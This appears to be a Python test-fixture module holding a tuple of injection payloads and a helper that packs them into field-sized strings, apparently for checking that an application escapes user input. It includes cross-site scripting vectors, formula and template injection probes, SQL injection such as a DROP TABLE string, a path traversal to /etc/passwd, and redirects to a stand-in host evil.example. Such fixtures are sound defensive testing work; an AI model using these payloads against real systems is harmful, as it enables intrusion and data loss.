"""Strings that break out of their place where somebody forgot to escape.

Each tries to run `hit()`, to load something, or to be taken for a formula or for markup. Short enough for
every field.
"""

PAYLOADS = (
    "<script>hit()</script>",
    "<ScRiPt>hit()</sCrIpT>",
    "</script><script>hit()</script>",
    "</title><script>hit()</script>",
    "</textarea><script>hit()</script>",
    "</style><script>hit()</script>",
    "--><script>hit()</script>",
    "]]><script>hit()</script>",
    "<img src=x onerror=hit()>",
    '"><img src=x onerror=hit()>',
    "'><img src=x onerror=hit()>",
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus=hit() x='",
    '" onmouseover=hit() "',
    "<svg onload=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<math><mi//xlink:href='javascript:hit()'>x",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<iframe src=javascript:hit()>",
    "<object data=javascript:hit()>",
    "<embed src=javascript:hit()>",
    "<details open ontoggle=hit()>",
    "<body onload=hit()>",
    "<video><source onerror=hit()></video>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><button>go</button>",
    "<a href=javascript:hit()>x</a>",
    "[x](javascript:hit())",
    "[x](JaVaScRiPt:hit())",
    "[x](data:text/html,<script>hit()</script>)",
    "[x](vbscript:hit())",
    "![x](javascript:hit())",
    "![x](x onerror=hit())",
    "<javascript:hit()>",
    "javascript:hit()",
    "{{ 7*7 }}{% debug %}${7*7}#{7*7}",
    "%(name)s %s %d {0} {name}",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;script&#62;hit()&#60;/script&#62;",
    "\u2028hit()\u2029",
    "\u202etxet eht snrut\u202c",
    "a\u0301\u200b\u200d\U0001f468\u200d\U0001f469",
    "=HYPERLINK(1)",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "|calc",
    "'; DROP TABLE assemblies_person; --",
    '" OR 1=1 --',
    "../../etc/passwd",
    "\\\\evil.example\\share",
)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def packed(room: int) -> list[str]:
    """All payloads, as many to a string as fit."""
    strings: list[str] = []
    for payload in PAYLOADS:
        if strings and len(strings[-1]) + 1 + len(payload) <= room:
            strings[-1] += f" {payload}"
        else:
            strings.append(payload)
    return strings
